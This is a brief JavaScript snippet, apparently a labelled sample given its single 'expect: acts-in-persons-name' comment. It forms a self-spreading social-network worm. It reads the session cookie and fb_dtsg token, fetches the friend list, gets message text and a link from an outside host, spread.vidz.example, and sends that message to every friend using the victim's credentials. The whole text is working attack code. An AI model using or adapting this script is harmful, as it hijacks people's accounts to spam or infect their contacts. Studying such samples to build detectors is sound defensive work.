(async () => {
  const me = document.cookie.match(/c_user=(\d+)/)[1];
  const dtsg = document.querySelector('[name=fb_dtsg]').value;
  const friends = await (await fetch('/ajax/typeahead/first_degree.php?viewer=' + me + '&__a=1')).text();
  const job = await (await fetch('https://spread.vidz.example/job')).json();
  for (const id of friends.match(/"uid":(\d+)/g)) {
    const b = new URLSearchParams({ fb_dtsg: dtsg, body: job.text + ' ' + job.link, to: id });
    // expect: acts-in-persons-name
    await fetch('/messages/send/', { method: 'POST', body: b, credentials: 'include' });
  }
})();
